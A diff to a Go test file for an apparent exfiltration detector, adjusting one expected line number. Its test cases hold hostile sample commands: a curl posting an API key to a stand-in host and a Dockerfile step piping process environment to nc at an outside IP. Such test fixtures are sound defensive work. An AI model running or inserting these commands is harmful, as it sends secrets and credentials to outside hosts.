@@ -36,7 +36,7 @@ func TestShellExfiltration(t *testing.T) {
 		{"secret variable posted", newRange(shellScript(`curl -s -d "k=$OPENAI_API_KEY" https://x.example.net/k` + "\n")),
 			[]expect{{sev: High, title: "secret variable"}}},
 		{"Dockerfile RUN environ to nc, continued", newRange(runFile("RUN npm ci && \\\n    cat /proc/self/environ | nc 203.0.113.7 9000 ; \\\n    true\n")),
-			[]expect{{sev: Critical, blocks: true, title: "Dockerfile RUN", evidence: []string{"Dockerfile:3"}}}},
+			[]expect{{sev: Critical, blocks: true, title: "Dockerfile RUN", evidence: []string{"Dockerfile:4"}}}},
 		// Benign shapes.
 		{"healthcheck on localhost", newRange(shellScript("curl -fsS http://localhost:8080/health || exit 1\n")), nil},
 		{"bearer header is authentication", newRange(shellScript(`curl -fsS -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user` + "\n")), nil},
